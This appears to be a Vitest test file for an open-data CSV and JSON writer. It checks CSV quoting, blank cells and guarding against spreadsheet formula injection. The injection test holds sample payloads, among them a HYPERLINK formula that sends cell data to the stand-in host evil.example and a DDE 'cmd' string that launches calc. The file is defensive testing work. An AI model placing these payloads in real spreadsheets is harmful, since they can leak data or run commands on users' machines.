import { describe, expect, it } from 'vitest';
import { cellText, toCsv, toJson } from '../../src/lib/open-data/write-csv.ts';
import { frictionlessField } from '../../src/lib/open-data/data-files.ts';
import type { ColumnSpec } from '../../src/schemas/column-spec.ts';

const columns: ColumnSpec[] = [
  { name: 'code', label: 'コード', type: 'municipality_code', required: true, description: '' },
  { name: 'text', label: '文', type: 'text', required: false, description: '' },
  { name: 'value', label: '値', type: 'number', required: false, description: '' },
  { name: 'flag', label: '旗', type: 'boolean', required: true, description: '' },
];

describe('toCsv', () => {
  it('writes a BOM, CRLF line ends and RFC 4180 quoting', () => {
    const csv = toCsv(columns, [
      { code: '032069', text: 'カンマ,と"引用符"', value: 3096, flag: true },
      { code: '032069', text: '一行目\n二行目', value: null, flag: false },
    ]);
    expect(csv).toBe('\uFEFFcode,text,value,flag\r\n032069,"カンマ,と""引用符""",3096,true\r\n032069,"一行目\n二行目",,false\r\n');
  });
  it('writes a table without rows as its header line alone', () => {
    expect(toCsv(columns, [])).toBe('\uFEFFcode,text,value,flag\r\n');
  });
  it('writes blanks as empty cells, never 0, and numbers without grouping', () => {
    expect([cellText(null), cellText(0), cellText(61.9), cellText(5600)]).toEqual(['', '0', '61.9', '5600']);
  });

  it('writes no text cell that a spreadsheet runs as a formula, and negative numbers as numbers', () => {
    const csv = toCsv(columns, [
      { code: '032069', text: '=HYPERLINK("https://evil.example/?"&A2,"詳細")', value: -3, flag: true },
      { code: '032069', text: "-2+3+cmd|' /C calc'!A0", value: -0.5, flag: false },
      { code: '032069', text: '  =1+1', value: null, flag: false },
      { code: '032069', text: '\t@SUM(1+1)', value: 0, flag: false },
      { code: '032069', text: '+81-197', value: 1, flag: false },
    ]);
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `032069,"'=HYPERLINK(""https://evil.example/?""&A2,""詳細"")",-3,true`,
      `032069,'-2+3+cmd|' /C calc'!A0,-0.5,false`,
      `032069,'  =1+1,,false`,
      `032069,'\t@SUM(1+1),0,false`,
      `032069,'+81-197,1,false`,
    ]);
  });
});

describe('toJson', () => {
  it('keeps codes as strings and blanks as null', () => {
    expect(JSON.parse(toJson(columns, [{ code: '032069', text: null, value: null, flag: true }]))).toEqual([{ code: '032069', text: null, value: null, flag: true }]);
  });
  it('keeps text exactly, even text that would be a formula in a spreadsheet', () => {
    expect(JSON.parse(toJson(columns, [{ code: '032069', text: '=1+1', value: -3, flag: true }]))).toEqual([{ code: '032069', text: '=1+1', value: -3, flag: true }]);
  });
});

describe('frictionlessField', () => {
  it('maps our column types to table-schema types with constraints', () => {
    expect(frictionlessField(columns[0]!)).toMatchObject({ name: 'code', type: 'string', constraints: { required: true, pattern: '^[0-9]{6}$' } });
    expect(frictionlessField(columns[2]!)).toMatchObject({ type: 'number' });
    expect(frictionlessField(columns[3]!)).toMatchObject({ type: 'boolean', trueValues: ['true'], falseValues: ['false'] });
  });
});
